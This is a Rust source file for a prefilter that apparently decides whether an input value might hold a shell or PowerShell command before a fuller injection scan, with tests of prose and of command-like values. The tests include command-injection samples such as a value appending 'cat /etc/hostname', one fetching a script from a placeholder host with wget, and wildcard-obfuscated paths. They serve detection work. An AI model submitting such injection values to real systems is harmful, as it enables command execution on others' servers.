//! A prefilter at a value that separators alone have brought here: prose is full of semicolons, line breaks and hyphens. It recognises
//! prose by its bytes and by the words in a command's place, and knows nothing of what a clause would weigh.

use super::{commands, powershell};
use crate::language::Findings;

/// The class of a byte for the prefilter.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Byte {
    /// Bytes of prose, lists and addresses.
    Plain,
    /// As plain, and passed over where a command may stand.
    Blank,
    /// Behind it a command may stand.
    Separator,
    Slash,
    Wildcard,
    /// No prose holds it.
    Construct,
}

const BYTES: [Byte; 256] = {
    let mut table = [Byte::Construct; 256];
    let mut byte = 0;
    while byte < 256 {
        let ascii = byte as u8;
        table[byte] = match ascii {
            b' ' | b'\t' | b'+' | b'\'' | b'"' => Byte::Blank,
            // A bracket or a separator directly behind another one moves the command's place on.
            b';' | b'&' | b'(' | b')' | b'\n' | b'\r' => Byte::Separator,
            b'/' => Byte::Slash,
            b'*' | b'?' => Byte::Wildcard,
            b',' | b'.' | b':' | b'!' | b'-' | b'_' | b'@' | b'#' | b'=' | b'%' | 0x80.. => Byte::Plain,
            _ if ascii.is_ascii_alphanumeric() => Byte::Plain,
            _ => Byte::Construct,
        };
        byte += 1;
    }
    table
};

/// Bytes that say nothing behind the first word of a command's place.
const INERT: [bool; 256] = {
    let mut table = [false; 256];
    let mut byte = 0;
    while byte < 256 {
        table[byte] = matches!(BYTES[byte], Byte::Plain | Byte::Blank);
        byte += 1;
    }
    table
};

/// Longest word that is looked up; no program has a longer name.
const WORD_BYTES_MAX: usize = 31;

/// Bytes of a word that are read, so that marks without end are not read again from each of them.
const GLANCE_BYTES_MAX: usize = 128;

/// Returns `true` if [`super::inspect`] could find anything in `bytes`.
pub(super) fn may_match(bytes: &[u8]) -> bool {
    let mut slash = false;
    let mut wildcard = false;
    let mut heads = true;
    // Behind an exclamation mark any path may be a program's.
    let mut negated = false;
    let mut next = bytes;
    loop {
        if !heads {
            // Nearly every byte is passed over here.
            let telling = next.iter().position(|byte| !INERT[usize::from(*byte)]).unwrap_or(next.len());
            next = next.get(telling..).unwrap_or_default();
        }
        let rest = next;
        let Some((&byte, after)) = rest.split_first() else { break };
        next = after;
        match BYTES[usize::from(byte)] {
            Byte::Construct => return true,
            Byte::Separator => {
                (heads, negated) = (true, false);
                continue;
            }
            Byte::Wildcard => {
                wildcard = true;
                continue;
            }
            Byte::Blank => continue,
            Byte::Slash => slash = true,
            Byte::Plain => {}
        }
        if heads {
            match first_word(rest) {
                First::Command => return true,
                First::Path if negated => return true,
                First::Noise => negated |= byte == b'!',
                First::Path | First::Text => heads = false,
            }
        }
    }
    if slash && wildcard {
        return true;
    }
    let mut found = false;
    powershell::scan(bytes, &mut Findings::new(&mut |_| found = true));
    found
}

/// The word in a command's place.
enum First {
    /// A name that can be a command, or what a command can follow.
    Command,
    /// A mark that is passed over.
    Noise,
    /// A path that names no program.
    Path,
    Text,
}

/// A word that is read byte by byte.
#[derive(Default)]
struct FirstWord {
    word: [u8; WORD_BYTES_MAX],
    length: usize,
    path: bool,
    /// Length up to the hyphens and dots behind which a version may stand.
    letters: Option<usize>,
    /// Length where a mark ends the name; with a slash behind it, who knows where a path begins.
    ended: Option<usize>,
}

/// The class of the word at the start of `rest`. Quotes are no part of it.
fn first_word(rest: &[u8]) -> First {
    let mut read = FirstWord::default();
    for (at, &byte) in rest.iter().enumerate() {
        if at == GLANCE_BYTES_MAX {
            return First::Command;
        }
        match byte {
            b'\'' | b'"' => {}
            // An assignment in front of the command, or how a variable is written.
            b'=' | b'@' | b'%' => return First::Command,
            b'/' if read.is_program_directory() => return First::Command,
            b'/' => (read.path, read.length, read.letters) = (true, 0, None),
            // A blank in front of a word, and a part of it inside one, unless it was a form's.
            b'+' => read.end(),
            b'-' | b'.' | b'_' => {
                read.letters = read.letters.or(Some(read.length));
                read.push(byte);
            }
            _ if byte.is_ascii_alphanumeric() => read.push(byte),
            _ if matches!(BYTES[usize::from(byte)], Byte::Blank | Byte::Separator) => break,
            _ => read.end(),
        }
    }
    let word = read.word.get(..read.ended.unwrap_or(read.length)).unwrap_or_default();
    classify(word, read.letters, read.path, rest)
}

impl FirstWord {
    fn end(&mut self) {
        self.ended = self.ended.or(Some(self.length));
    }

    fn push(&mut self, byte: u8) {
        if self.ended.is_some() {
            return;
        }
        // Too long for a program's name; a directory may be as long as it likes.
        let Some(slot) = self.word.get_mut(self.length) else { return self.end() };
        *slot = byte.to_ascii_lowercase();
        self.length += 1;
    }

    /// Returns `true` at a slash if the directory may hold programs. Of a path the last part counts.
    fn is_program_directory(&self) -> bool {
        let directory = self.word.get(..self.length).unwrap_or_default();
        self.ended.is_some() || matches!(directory, b"" | b"." | b".." | b"bin" | b"sbin")
    }
}

/// The class of a lower-case `word` at the start of `rest`; `letters` is the place where its version may begin.
fn classify(word: &[u8], letters: Option<usize>, path: bool, rest: &[u8]) -> First {
    // `. file` runs a file; the end of a sentence has no path behind it.
    if word == b"." {
        let behind = rest.get(1..).unwrap_or_default().trim_ascii_start();
        let next = behind.split(u8::is_ascii_whitespace).next().unwrap_or_default();
        return if next.contains(&b'/') { First::Command } else { First::Noise };
    }
    let word = word.strip_suffix(b".").unwrap_or(word);
    let known = |word: &[u8]| commands::unix(word).is_some() || commands::windows(word).is_some();
    if !path && word.is_empty() {
        return First::Noise;
    }
    let command = matches!(word, b"then" | b"do" | b"else" | b"if" | b"for" | b"alias")
        || word.first().is_some_and(|first| matches!(first, b'.' | b'-'))
        || known(word)
        || letters.and_then(|end| word.get(..end)).is_some_and(known);
    match (command, path) {
        (true, _) => First::Command,
        (false, true) => First::Path,
        (false, false) => First::Text,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn prose_is_not_worth_it() {
        for value in [
            "The delivery was late, but the driver's note said it wasn't his fault; we'd order again (5 stars & thanks).",
            "First line\nSecond line\r\n\r\nBest regards, O'Brien",
            "an out-of-town trip - lovely; a \"must\" (really). And so on.",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
        ] {
            assert!(!may_match(value.as_bytes()), "{value}");
        }
    }

    #[test]
    fn commands_in_a_command_s_place_are() {
        for value in [
            "127.0.0.1; cat /etc/hostname",
            "x && w'h'oam\"i\"",
            "8.8.8.8\nwget http://drop.example/a.sh",
            "a; FOO=1 x",
            "1;/bin/x",
            "x;python3.10 a.py",
            "tar -xf a",
            "it is; get-process",
            "system('id')",
            "/b?n/c?t -x",
            "x;! /srv/tool y",
            "x; /srv/tool y",
            ";! w2,!/sl",
            ";. local/profile",
            ";! local/tool /srv",
            ";! one+name/tool",
            ";! a-directory-with-a-name-of-many-words/tool",
        ] {
            assert!(may_match(value.as_bytes()), "{value}");
        }
    }
}
